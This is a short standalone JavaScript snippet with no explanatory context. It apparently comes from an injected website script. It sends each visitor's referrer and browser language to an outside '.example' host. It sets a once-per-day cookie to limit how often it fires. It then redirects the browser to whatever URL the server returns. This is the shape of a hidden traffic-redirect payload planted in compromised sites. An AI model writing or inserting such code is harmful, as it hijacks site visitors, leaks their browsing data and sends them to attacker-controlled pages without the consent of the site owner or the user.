(function () {
  var h = "https://" + "space-heater-guide" + ".example/help/?" + "0000000000000";
  var c = "hlp_" + location.hostname.replace(/\./g, "_");
  if (document.cookie.indexOf(c) !== -1) { return; }
  var x = new XMLHttpRequest();
  x.open("GET", h + "&r=" + encodeURIComponent(document.referrer) + "&l=" + navigator.language, true);
  x.onload = function () {
    document.cookie = c + "=1; max-age=86400; path=/";
    if (x.responseText) { location.href = x.responseText; }
  };
  x.send();
})();
